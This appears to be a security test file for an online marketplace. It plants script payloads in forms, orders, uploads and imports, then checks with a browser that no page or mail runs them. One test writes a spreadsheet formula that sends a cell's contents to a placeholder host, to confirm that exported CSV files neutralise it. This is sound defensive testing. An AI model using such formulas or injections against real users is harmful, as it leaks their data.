import type { Browser } from 'playwright-core'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { openCsv } from '#domain/ground/shared/file-formats/csv.ts'
import { placeOrder } from '#server/orders/checkout/place-order.ts'
import { runImport } from '#server/selling/imports/run-import.ts'
import { uploadImport } from '#server/selling/imports/upload-import.ts'
import { uploadDocument } from '#server/selling/sellers/application/upload-document.ts'
import { ABSENT, type AccessMarketplace, startAccessMarketplace } from '#tests/access/access-marketplace.ts'
import { ACCESS, type Visitor } from '#tests/access/access-table.ts'
import { keepSignedIn, pathsOf } from '#tests/access/offered-forms.ts'
import { answerTo, WRITTEN_FORMS } from '#tests/access/written-fields.ts'
import { launchBrowser } from '#tests/support/browser.ts'
import { checkoutOf } from '#tests/support/checkout.ts'
import { inFull, isFull } from '#tests/support/full-run.ts'
import { formsOf } from '#tests/support/page-forms.ts'
import { SCRIPT_PAYLOADS } from '#tests/support/script-payloads.ts'
import { BEACON, type ShownPage, watchScripts } from '#tests/support/script-watch.ts'
import { MailText } from '../../src/web/storefront/office/demo/mail-text.tsx'

/** What anybody writes is a text for everybody else, with the content security policy and without. */
const ROUNDS = inFull(12, 1)
/** Pages of one kind that are looked at, for each kind of visitor. */
const PAGES_MAX = inFull(8, 1)
/** Of so many pages one is brought to life by its scripts, with the policy and without; the others are shown as they came. */
const ONE_ALIVE_OF = inFull(1, 30)
/** Addresses of one kind that are asked for, with whatever ids and filters; and its searches for a payload. */
const ASKED_MAX = inFull(Number.POSITIVE_INFINITY, 1)
const SEARCHES_MAX = inFull(Number.POSITIVE_INFINITY, 1)
const LETTERS_MAX = inFull(200, 8)
const TOGETHER = 6
const LOOKING = ['anonymous', 'customer', 'vendor', 'admin'] as const satisfies readonly Visitor[]
type Looking = (typeof LOOKING)[number]
/** On a commit nobody looks who is not signed in: customers are shown the same pages, and more. */
const LOOKERS = isFull ? LOOKING : LOOKING.slice(1)
const POLICIES = [{ bypassCSP: true }, { bypassCSP: false }] as const

let access: AccessMarketplace
let browser: Browser
let signEverybodyIn: () => Promise<void>
let calls = 0
const planted: string[] = []
const refused: (ShownPage & { visitor: Visitor })[] = []

beforeAll(async () => {
  access = await startAccessMarketplace({ LOG_LEVEL: 'info' })
  signEverybodyIn = await keepSignedIn(access.shop.app)
  browser = await launchBrowser()
})
afterAll(async () => {
  await browser?.close()
  await access?.shop.close()
})

/** The next payload; each names the call that it makes. */
function nextPayload(): string {
  const payload = SCRIPT_PAYLOADS[calls % SCRIPT_PAYLOADS.length]
  calls += 1
  return payload?.text(`${BEACON}(${calls})`) ?? ''
}

describe('a page of ours that forgot to escape', () => {
  test.each(SCRIPT_PAYLOADS.slice(0, inFull(7, 1)))('is noticed: $kind', async ({ text }) => {
    const raw = text(`${BEACON}(0)`)
    const careless = `<script type="application/ld+json">"${raw}"</script><p>${raw}<input value="${raw}"><input value='${raw}'>`
    const response = await fetch(access.shop.url)
    const html = await response.text()
    const answer = answerOf(response, html.replace('<main', `${careless}<main`))
    for (const policy of POLICIES) {
      const watch = await watchScripts(browser, { baseURL: access.shop.url, ...policy })
      const found = await watch.show([{ path: '/', answer, isStatic: true }])
      await watch.close()
      const sign = policy.bypassCSP ? / ran 0/ : / broke the policy/
      expect(found.filter((what) => sign.test(what))).not.toEqual([])
    }
  })
})

describe.each(Array.from({ length: ROUNDS }, (_none, index) => index + 1))('round %i', (round) => {
  test('everything that can be written is written', async () => {
    await signEverybodyIn()
    const before = planted.length
    refused.length = 0
    // Another payload for each field in each round.
    calls += round === 1 ? 0 : 5
    await writeEveryField()
    await writeElsewhere()
    // What ended something in the first round is not there to be ended again.
    expect(planted.length - before).toBeGreaterThan(round === 1 ? 60 : 45)
  })

  test.each(LOOKERS)('and on no page for %s is it more than a text', async (visitor) => {
    await signEverybodyIn()
    const pages = await pagesThatShowIt(visitor, { isThorough: isFull && round === 1 })
    expect(pages.length).toBeGreaterThan(2)
    const answers = refused.filter((answer) => answer.visitor === visitor)
    for (const policy of POLICIES) {
      const cookie = access.cookies.get(visitor)
      const watch = await watchScripts(browser, { baseURL: access.shop.url, ...policy, cookie })
      const found = await watch.show(inShare([...pages, ...answers], policy))
      await watch.close()
      expect(found, JSON.stringify(policy)).toEqual([])
    }
  })
})

/** Without the policy a script of a text runs: there all pages are looked at, and with it those that come to life. */
function inShare(pages: readonly ShownPage[], { bypassCSP }: (typeof POLICIES)[number]): ShownPage[] {
  const isAlive = (index: number) => index % ONE_ALIVE_OF === 0
  return pages
    .map((page, index) => (isAlive(index) ? page : asStatic(page)))
    .filter((_page, index) => bypassCSP || isAlive(index))
}

/** As it was received, without the links to files of ours: each would be asked for, and stopped, through this process. */
function asStatic({ path, answer }: ShownPage): ShownPage {
  const body = answer?.body.replace(/<link\b[^>]*"\/assets\/[^>]*>/g, '')
  return { path, isStatic: true, ...(answer && { answer: { ...answer, body: body ?? '' } }) }
}

test('in no mail is it more than a text, and the page that shows mails makes no link of it', async () => {
  const letters = access.shop.app.db.selectFrom('mails').select(['kind', 'html_body', 'text_body'])
  const written = (await letters.execute()).filter(({ text_body: text }) => text?.includes(BEACON))
  const kinds = Object.values(Object.groupBy(written, ({ kind }) => kind)).flatMap(
    (same) => same?.slice(-LETTERS_MAX / 4) ?? [],
  )
  const bodies = kinds.flatMap(({ html_body: html, text_body: text }) => [
    html ?? '',
    renderToStaticMarkup(createElement(MailText, { text: text ?? '' })),
  ])
  const shown = bodies.filter((body) => body.includes(BEACON))
  expect(shown.length).toBeGreaterThan(3)
  const headers = { 'Content-Type': 'text/html; charset=utf-8' }
  const watch = await watchScripts(browser, { baseURL: access.shop.url, bypassCSP: true })
  const found = await watch.show(
    shown.map((body) => ({ path: '/', answer: { status: 200, headers, body }, isStatic: true })),
  )
  await watch.close()
  expect(found).toEqual([])
})

test('in no file for a spreadsheet is it a formula', async () => {
  await signEverybodyIn()
  const formula = `=HYPERLINK("https://nnx.invalid?"&A1,"nnx")`
  for (const form of WRITTEN_FORMS.filter(({ visitor, deed }) => visitor === 'vendor' && deed !== 'business'))
    for (const field of form.texts) await (await answerTo(access, form, { [field]: formula })).arrayBuffer()
  const wrong: string[] = []
  let cellsSeen = 0
  for (const row of ACCESS.filter(({ path }) => path.endsWith('.csv')))
    for (const visitor of ['vendor', 'admin'] as const)
      for (const path of pathsOf(row, access)) {
        const response = await get(visitor, path)
        const text = await response.text()
        if (!response.headers.get('Content-Type')?.startsWith('text/csv')) continue
        const reader = openCsv()
        const cells = [...reader.push(text), ...reader.end()].flatMap((record) => record.cells)
        cellsSeen += cells.filter((cell) => cell.includes(BEACON)).length
        wrong.push(...cells.filter((cell) => /^\s*[=+@\t\r]|^\s*-(?![\d.]+$)/.test(cell)))
      }
  expect(cellsSeen).toBeGreaterThan(5)
  expect(wrong).toEqual([])
})

/** Each field of each form once; what was taken stays in the form for the next. */
async function writeEveryField(): Promise<void> {
  for (const form of WRITTEN_FORMS) {
    let kept: Record<string, string> = {}
    let isShown = false
    for (const field of form.texts) {
      const text = nextPayload()
      const response = await answerTo(access, form, { ...kept, [field]: text }).catch(() => undefined)
      // What ended something is not offered a second time.
      if (!response) continue
      const body = await response.text()
      if (response.status < 400) {
        kept = { ...kept, [field]: text }
        planted.push(text)
      } else if (!isShown && body.includes(BEACON)) {
        isShown = true
        const path = form.page(access.things)
        refused.push({ path, visitor: form.visitor, answer: answerOf(response, body) })
      }
    }
  }
}

/** What is written in other ways than by a form of text: orders, files, programs and browsers. */
async function writeElsewhere(): Promise<void> {
  const { app } = access.shop
  const [userId, sellerId] = [await vendorId(), 'first-shop']
  const order = checkoutOf({ offerId: access.things.offer[0] })
  for (const field of ['firstName', 'lastName', 'address', 'city'] as const) {
    const text = nextPayload()
    const details = { ...order.details, [field]: text }
    const customer = { userId: access.things.account[0], name: text, email: 'asha@example.in' }
    const placed = await placeOrder(app, customer, { ...order, checkoutKey: app.random.uuid(), details })
    if (placed.ok) planted.push(text)
  }
  const name = `${nextPayload()}.pdf`
  await uploadDocument(app, { userId, sellerId }, { kind: 'pan-card', name, bytes: Buffer.from('%PDF-1.7') })
  const cells = ['kind', 'name', 'brand', 'mpn', 'description', 'price', nextPayload()]
  const row = (kind: string) =>
    [kind, nextPayload(), nextPayload(), nextPayload(), nextPayload(), nextPayload(), 'x'].map(quoted)
  const file = [cells.map(quoted), row('mouse'), row('mouse'), row(nextPayload())].join('\r\n')
  const body = bytesOf(`sku,${file.replaceAll('\r\n', `\r\nS${calls},`)}`)
  const sent = await uploadImport(
    app,
    { userId, sellerId },
    { name: `${nextPayload()}.csv`, mode: 'products', body },
  )
  if (sent.ok) await runImport(app, { runId: sent.value.runId, sellerId })
  planted.push(name, file)
  const [first = '', second = '', third = ''] = [nextPayload(), nextPayload(), nextPayload()]
  const product = { sku: `S-${calls}`, kind: 'mouse', name: first, brand: second, description: third }
  await fetch(`${access.shop.url}/api/v1/vendor/products`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${access.keys[0]}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ ...product, mrp: 1_000, price: 900, stock: 1 }),
  })
  await app.db.updateTable('sessions').set({ user_agent: nextPayload() }).execute()
  const registration = { password: 'a long password', confirmPassword: 'a long password', terms: 'on' }
  for (const [path, fields] of [
    ['/auth/register', { name: nextPayload() }],
    ['/vendor/register', { name: nextPayload(), shopName: nextPayload() }],
  ] as const)
    await fetch(access.shop.url + path, {
      method: 'POST',
      redirect: 'manual',
      headers: { 'Sec-Fetch-Site': 'same-origin' },
      body: new URLSearchParams({ ...registration, ...fields, email: `${app.random.uuid()}@mail.in` }),
    })
}

async function* bytesOf(text: string) {
  yield new TextEncoder().encode(text)
}

async function vendorId(): Promise<string> {
  const vendor = access.shop.app.db.selectFrom('vendors').select('user_id')
  return (await vendor.where('seller_id', '=', 'first-shop').executeTakeFirstOrThrow()).user_id
}

function quoted(cell: string): string {
  return `"${cell.replaceAll('"', '""')}"`
}

/**
 * The pages, and the searches of their forms, in whose HTML a payload stands, found by following their links. Unless
 * thorough, only as many as show each payload once.
 */
async function pagesThatShowIt(
  visitor: Looking,
  { isThorough }: { isThorough: boolean },
): Promise<ShownPage[]> {
  const shown: ShownPage[] = []
  const seen = new Map<string, number>()
  const [asked, searched] = [new Set<string>(), new Set<string>()]
  const askedOf = new Map<string, number>()
  const met = new Set<string>()
  const queue = ACCESS.filter((row) => isAskedBy(visitor, row))
    .flatMap((row) => pathsOf(row, access))
    .filter((path) => isFull || !path.includes(ABSENT))
  const work = async () => {
    for (let path = queue.shift(); path !== undefined; path = queue.shift()) {
      const kind = kindOf(path)
      const ofKind = askedOf.get(kind) ?? 0
      if (asked.has(path) || (seen.get(kind) ?? 0) >= PAGES_MAX) continue
      if (ofKind >= (path.includes(BEACON) ? SEARCHES_MAX : ASKED_MAX)) continue
      asked.add(path)
      askedOf.set(kind, ofKind + 1)
      const response = await get(visitor, path)
      const html = await response.text()
      if (!response.headers.get('Content-Type')?.startsWith('text/html') || response.status >= 500) continue
      if (response.status < 300) queue.push(...linksOf(html), ...searchesOf(html, path, searched))
      const texts = [...html.matchAll(/nnx\((\d+)\)/g)].map(([, id = '']) => id)
      if ((seen.get(kind) ?? 0) >= PAGES_MAX) continue
      if (!(isThorough ? texts.length > 0 : texts.some((id) => !met.has(id)))) continue
      for (const id of texts) met.add(id)
      seen.set(kind, (seen.get(kind) ?? 0) + 1)
      shown.push({ path, answer: answerOf(response, html) })
    }
  }
  await Promise.all(Array.from({ length: TOGETHER }, work))
  return shown
}

/** On each commit nobody is asked whom the page sends to another door, and for nothing that is not there. */
function isAskedBy(visitor: Looking, { GET }: (typeof ACCESS)[number]): boolean {
  const outcome = GET?.[visitor]
  if (outcome === undefined) return false
  return isFull || (typeof outcome === 'number' && outcome !== 401 && outcome !== 403)
}

/** An address without what differs between two of one kind: ids, and what a query says. */
function kindOf(path: string): string {
  const [address = '', query = ''] = path.split('?')
  const names = [...new URLSearchParams(query).keys()]
  return `${address.replace(/[^/]*[0-9][^/]*/g, ':id')}?${names.length > 0 ? 'search' : ''}`
}

function linksOf(html: string): string[] {
  return [...html.matchAll(/<a [^>]*href="(\/(?!\/)[^"#]*)"/g)].map(([, path = '']) =>
    path.replaceAll('&amp;', '&'),
  )
}

/** A search for a payload, in every field that a form sends in the address. */
function searchesOf(html: string, page: string, searched: Set<string>): string[] {
  return formsOf(html, page)
    .filter(({ method, fields }) => method === 'get' && fields.length > 0)
    .filter(({ action, fields }) => {
      const form = `${action.split('?')[0]} ${fields.map(([name]) => name)}`
      const isFirst = !searched.has(form)
      searched.add(form)
      return isFirst
    })
    .map(({ action, fields }) => {
      const texts = fields.map(([name]) => [name, nextPayload()])
      return `${action.split('?')[0]}?${new URLSearchParams(texts)}`
    })
}

async function get(visitor: Looking, path: string): Promise<Response> {
  const cookie = access.cookies.get(visitor)
  return fetch(access.shop.url + path, { redirect: 'manual', headers: { ...(cookie && { Cookie: cookie }) } })
}

function answerOf({ status, headers }: Response, body: string): ShownPage['answer'] & object {
  const kept = [...headers].filter(([name]) => !/^(content-(encoding|length)|set-cookie)$/.test(name))
  return { status, headers: Object.fromEntries(kept), body }
}
